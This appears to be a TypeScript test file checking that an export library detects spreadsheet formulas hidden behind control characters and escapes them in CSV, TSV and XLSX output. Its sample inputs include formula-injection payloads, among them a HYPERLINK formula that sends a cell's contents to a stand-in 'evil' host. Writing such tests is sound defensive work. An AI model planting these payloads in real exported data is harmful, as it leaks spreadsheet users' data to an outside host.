/**
 * Control characters before a formula character: import steps strip them as they trim white
 * space (Python's str.strip() drops U+001C-001F, Java's String.trim() all up to U+0020), so
 * `\x1c=HYPERLINK(...)` runs once imported. Checked against Python's own strip().
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { formulaRuleCodes, looksLikeFormula } from '../../src/formats/formula.js';
import { exportRows } from '../../src/pipeline.js';
import { collect, exportText, readCsv } from './support/export.js';

const C0 = [...Array.from({ length: 8 }, (_, i) => i + 1), ...Array.from({ length: 18 }, (_, i) => i + 14)];
const C1 = Array.from({ length: 32 }, (_, i) => i + 0x80);
const CONTROLS = [...C0, 0x7f, ...C1].map((c) => String.fromCharCode(c));

describe('formula rule: control characters hide a formula', () => {
  it('flags = + - @ after any control character, or a run of them', () => {
    for (const c of CONTROLS) {
      for (const f of ['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '＝1'])
        expect(looksLikeFormula(c + f), JSON.stringify(c + f)).toBe(true);
    }
    expect(looksLikeFormula('\x1c\x1d\x1e\x1f\x7f\x01 \u200b=1')).toBe(true);
  });

  it('leaves control characters before ordinary text alone', () => {
    for (const c of CONTROLS) {
      expect(looksLikeFormula(`${c}plain`), JSON.stringify(c)).toBe(false);
      expect(looksLikeFormula(c), JSON.stringify(c)).toBe(false);
    }
  });

  it('covers at least what Python strip() removes before a formula character', () => {
    // Every BMP character Python's strip() removes from the front of a formula.
    const script =
      'import json\nprint(json.dumps([c for c in range(1, 0x10000) if not 0xd800 <= c <= 0xdfff and (chr(c)+"=1").strip() == "=1"]))';
    const stripped: number[] = JSON.parse(execFileSync('/usr/bin/python3', ['-c', script]).toString());
    expect(stripped).toContain(0x1c);
    const missed = stripped.filter((c) => !looksLikeFormula(`${String.fromCharCode(c)}=1`));
    expect(missed.map((c) => c.toString(16))).toEqual([]);
  });

  it('hands the same characters to the PostgreSQL COPY rule', () => {
    const { control, hides } = formulaRuleCodes();
    expect(control).toEqual([0, 9, 10, 13]);
    for (const c of [...C0.filter((c) => c !== 9 && c !== 10 && c !== 13), 0x7f, ...C1])
      expect(hides).toContain(c);
  });

  it("prefixes them with ' in CSV and TSV, read back with csv-parse", async () => {
    const values = [
      '\x1c=HYPERLINK("http://evil/?"&A1)',
      '\x1f+1+cmd',
      '\x01=1+1',
      '\x7f@x',
      '\x85-1',
      '\x1cplain',
    ];
    for (const [format, delimiter] of [
      ['csv', ','],
      ['tsv', '\t'],
    ] as const) {
      const text = await exportText(
        values.map((v) => [v]),
        { format, columns: [{ key: 'v', type: 'string' }] },
      );
      expect(readCsv(text, delimiter).slice(1)).toEqual([
        ...values.slice(0, 5).map((v) => [`'${v}`]),
        ['\x1cplain'],
      ]);
    }
  });

  it('escapes them in XLSX too, ASCII fast path included (DEL), read back with SheetJS', async () => {
    const values = ['\x7f=1+1', '\x1c=1', '\x01@x', '\x7fplain'];
    const bytes = await collect(
      exportRows(
        values.map((v) => ({ v })),
        { format: 'xlsx', formulaEscape: 'apostrophe' },
      ),
    );
    const sheet = XLSX.read(bytes, { type: 'buffer' }).Sheets.Sheet1!;
    const shown = values.map((_, i) => String(sheet[`A${i + 2}`]?.v));
    expect(shown.map((v) => v.startsWith("'"))).toEqual([true, true, true, false]);
  });
});
